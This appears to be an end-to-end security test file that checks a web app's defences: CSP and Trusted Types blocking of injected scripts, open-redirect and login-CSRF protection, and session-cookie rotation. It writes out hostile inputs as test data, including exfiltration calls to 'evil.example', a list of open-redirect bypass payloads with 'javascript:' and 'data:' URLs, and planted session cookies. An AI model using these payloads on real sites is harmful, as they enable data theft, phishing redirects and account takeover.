import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DEMO_PASSWORD } from '../../apps/server/seed/demo-accounts.ts';
import { hashPassword } from '../../apps/server/src/platform/passwords.ts';
import { openOffice, type Office } from '../support/office.ts';
import { openBrowser, openWindow, type Window } from '../support/people.ts';
import { chooseWay, enterCode, heading, press, wayNamed } from '../support/ways-in.ts';

let browser: Browser;
let office: Office;
beforeAll(async () => {
  browser = await openBrowser();
  office = await openOffice(browser);
});
afterAll(async () => {
  await office.close();
  await browser.close();
});

const cookie = (name: string, value: string) => ({
  name,
  value,
  url: office.url,
  httpOnly: true,
  sameSite: 'Lax' as const,
});
/** Somebody who reads English here, and has not signed in. */
async function openGuest(): Promise<Window> {
  const window = await office.open(undefined, { locale: 'en' });
  await window.page.goto('/help?locale=en');
  await window.page.getByRole('heading', { level: 1 }).waitFor();
  return window;
}
const isSignedIn = ({ page }: Window): Promise<boolean> =>
  page.evaluate(
    async () =>
      ((await (await fetch('/api/config')).json()) as { loggedInUser: object | null }).loggedInUser !== null,
  );

/** What a script that got into the page would try next. */
const ATTEMPTS: readonly {
  readonly what: string;
  readonly run: () => Promise<string> | string;
  readonly refusedBy: RegExp;
}[] = [
  {
    what: 'markup from a text',
    run: () => {
      document.createElement('div').innerHTML = '<img src=x>';
      return 'made';
    },
    refusedBy: /require-trusted-types-for refused trusted-types-sink/,
  },
  {
    what: 'a document from a text',
    run: () => {
      new DOMParser().parseFromString('<p>x</p>', 'text/html');
      return 'made';
    },
    refusedBy: /require-trusted-types-for refused trusted-types-sink/,
  },
  {
    what: 'a script by its address',
    run: () => {
      document.createElement('script').src = '/assets/x.js';
      return 'made';
    },
    refusedBy: /require-trusted-types-for refused trusted-types-sink/,
  },
  {
    what: 'a policy of its own',
    run: () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object };
      };
      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
      return 'made';
    },
    refusedBy: /trusted-types refused trusted-types-policy mine/,
  },
  {
    what: 'code from a text',
    // In a task of its own: what the browser's tools run at once may do this everywhere.
    run: () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            // oxlint-disable-next-line no-eval -- that it fails is what is tested
            resolve(`made ${eval('1 + 1')}`);
          } catch {
            resolve('refused');
          }
        });
      }),
    refusedBy: /refused (trusted-types-sink|eval)/,
  },
  {
    what: 'a handler in an attribute',
    run: () => {
      document.body.setAttribute('onclick', 'globalThis.pwned = true');
      document.body.click();
      return 'pwned' in globalThis ? 'made' : 'refused';
    },
    refusedBy: /refused (trusted-types-sink|inline)/,
  },
  {
    what: 'words sent elsewhere',
    run: () => fetch('https://evil.example/?stolen').then(String),
    refusedBy: /connect-src refused https:\/\/evil\.example/,
  },
  {
    what: 'words in the address of a picture',
    run: () =>
      new Promise((resolve) => {
        const image = new Image();
        image.addEventListener('error', () => resolve('refused'));
        image.src = 'https://evil.example/?stolen';
      }),
    refusedBy: /img-src refused https:\/\/evil\.example/,
  },
  {
    what: 'a foreign page inside',
    run: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
      return 'refused';
    },
    refusedBy: /frame-src refused https:\/\/evil\.example/,
  },
  {
    what: 'a form that goes elsewhere',
    run: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
      return 'refused';
    },
    refusedBy: /form-action refused https:\/\/evil\.example/,
  },
  {
    what: 'another base for addresses',
    run: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
      return document.baseURI.includes('evil') ? 'made' : 'refused';
    },
    refusedBy: /base-uri refused https:\/\/evil\.example/,
  },
];

describe('a script that got into a page', () => {
  let window: Window;
  let page: Page;
  beforeAll(async () => {
    window = await openWindow(browser, { locale: 'en', as: 'patient' });
    ({ page } = window);
    await page.getByRole('main').getByRole('listitem').first().waitFor();
    expect(window.complaints).toEqual([]);
  });
  afterAll(() => window.context.close());

  test.each(ATTEMPTS)('gets no further with $what', async ({ run, refusedBy }) => {
    window.complaints.length = 0;
    const outcome = await page.evaluate(run).catch((error: unknown) => String(error));
    expect(outcome).not.toMatch(/made/);
    await expect.poll(() => window.complaints.join('\n')).toMatch(refusedBy);
  });
});

/** Where a sender of links would like people to land after signing in. */
const FOREIGN_TARGETS = [
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/%2Fevil.example/x',
  '/%2f%2fevil.example/x',
  '/%5Cevil.example/x',
  '/%09/evil.example/x',
  'https://evil.example/x',
  'https:evil.example/x',
  'javascript:globalThis.pwned=1',
  '/javascript:globalThis.pwned=1',
  'data:text/html,<script>globalThis.pwned=1</script>',
];

describe('where somebody lands after signing in', () => {
  test.each(FOREIGN_TARGETS)('%s: at home, and nowhere else', async (target) => {
    const who = await office.person({ locale: 'en' });
    const window = await office.open(undefined, { locale: 'en' });
    const { page, context } = window;
    const elsewhere: string[] = [];
    context.on('request', (request) => {
      if (request.isNavigationRequest() && new URL(request.url()).origin !== office.url)
        elsewhere.push(request.url());
    });
    // As the path of a link, in every parameter that pages of this kind know, and in the tab's own memory.
    await page.goto(`${office.url}${target.startsWith('/') ? target : `/${target}`}`);
    const named = ['target', 'redirect', 'returnTo', 'next', 'url', 'continue'].map(
      (name) => `${name}=${encodeURIComponent(target)}`,
    );
    await page.goto(`/choose-auth?locale=en&${named.join('&')}`);
    await heading(window, 'sign-in.choose.title').waitFor();
    await page.evaluate((value) => {
      for (const name of Object.keys(sessionStorage)) sessionStorage.setItem(name, value);
      sessionStorage.setItem('tervik.target', value);
    }, target);
    await context.addCookies([cookie('tervik', who.token)]);
    await page.goto(`/?${named.join('&')}`);
    await page.waitForURL(({ origin, pathname }) => origin === office.url && pathname !== '/');
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(new URL(page.url()).origin).toBe(office.url);
    expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
    expect(elsewhere).toEqual([]);
  });

  test('a page of ours that was asked for is remembered (the positive control)', async () => {
    const who = await office.person({ locale: 'en' });
    const window = await office.open(undefined, { locale: 'en' });
    await window.page.goto('/edit-profile?locale=en');
    await heading(window, 'session.home.title').waitFor();
    await window.context.addCookies([cookie('tervik', who.token)]);
    await window.page.goto('/');
    await window.page.waitForURL(/edit-profile/);
  });
});

describe('a login that somebody else began', () => {
  /** The address with which the attacker's own digital ID would come back, caught before it does. */
  async function catchReturn(): Promise<string> {
    const window = await office.open(undefined, { locale: 'en' });
    const caught = window.page.waitForRequest(/\/login\?session_token=/);
    await window.context.route(/\/login\?session_token=/, (route) => route.abort());
    await chooseWay(window, 'signIn', 'en');
    await wayNamed(window, window.t('sign-in.choose.digitalId')).click();
    await window.page.getByRole('button', { name: 'AINO LEPIK', exact: true }).click();
    return (await caught).url();
  }

  test('does not sign anybody in who follows its link', async () => {
    const link = await catchReturn();
    const victim = await openGuest();
    await victim.page.goto(link);
    await victim.page.getByText(victim.t('errors.SIGN_IN_OTHER_BROWSER')).waitFor();
    expect(await isSignedIn(victim)).toBe(false);
    expect(victim.page.url()).not.toContain('session_token');
  });

  test('nor anybody who has begun one of their own', async () => {
    const link = await catchReturn();
    const victim = await openGuest();
    await chooseWay(victim, 'signIn', 'en');
    await wayNamed(victim, victim.t('sign-in.choose.digitalId')).click();
    await victim.page.getByRole('heading', { name: 'Simulated digital ID' }).waitFor();
    await victim.page.goto(link);
    await victim.page.getByText(victim.t('errors.SIGN_IN_OTHER_BROWSER')).waitFor();
    expect(await isSignedIn(victim)).toBe(false);
  });

  test('nor anybody into whose browser a flow cookie was planted', async () => {
    const link = await catchReturn();
    const victim = await openGuest();
    await victim.context.addCookies([cookie('tervik-flow', 'A'.repeat(43))]);
    await victim.page.goto(link);
    await victim.page.getByText(victim.t('errors.SIGN_IN_OTHER_BROWSER')).waitFor();
    expect(await isSignedIn(victim)).toBe(false);
  });

  test('an answer of a provider works once: not from the history, not in another browser', async () => {
    const window = await office.open(undefined, { locale: 'en' });
    const returned = window.page.waitForRequest(/\/complete-login\?/);
    await chooseWay(window, 'signIn', 'en');
    await wayNamed(window, 'Microsoft').click();
    await window.page.getByRole('button', { name: 'Olga Ivanova', exact: true }).click();
    await heading(window, 'consent.consents.title').waitFor();
    const link = (await returned).url();
    expect(link).toMatch(/code=.*state=/);
    await press(window, 'consent.consents.cancel');
    await heading(window, 'session.home.title').waitFor();
    for (const browserOf of [window, await openGuest()]) {
      await browserOf.page.goto(link);
      await heading(browserOf, 'sign-in.finish.failed').waitFor();
      expect(await isSignedIn(browserOf)).toBe(false);
    }
  });
});

test('a session that was planted before signing in is worth nothing after it', async () => {
  const attacker = await office.person({ locale: 'en' });
  const who = await office.person({ locale: 'en', passwordHash: await hashPassword(DEMO_PASSWORD) });
  for (const planted of ['B'.repeat(43), attacker.token]) {
    const window = await office.open(undefined, { locale: 'en' });
    const { page, t } = window;
    await page.goto('/login-with-password?locale=en');
    // The page is open; the cookie comes from elsewhere.
    await window.context.addCookies([cookie('tervik', planted)]);
    await page.getByLabel(t('sign-in.login.email'), { exact: true }).fill(who.email);
    await page.getByLabel(t('sign-in.login.password'), { exact: true }).fill(DEMO_PASSWORD);
    const asked = Date.now();
    await press(window, 'sign-in.login.submit');
    await enterCode(window, office.mailbox, { email: who.email, asked, submit: 'sign-in.code.submit' });
    await page.waitForURL(/my-e-contacts/);
    const now = (await window.context.cookies()).find(({ name }) => name === 'tervik')?.value;
    expect(now).not.toBe(planted);
    const other = await openGuest();
    await other.context.addCookies([cookie('tervik', planted)]);
    expect(await isSignedIn(other)).toBe(false);
  }
});
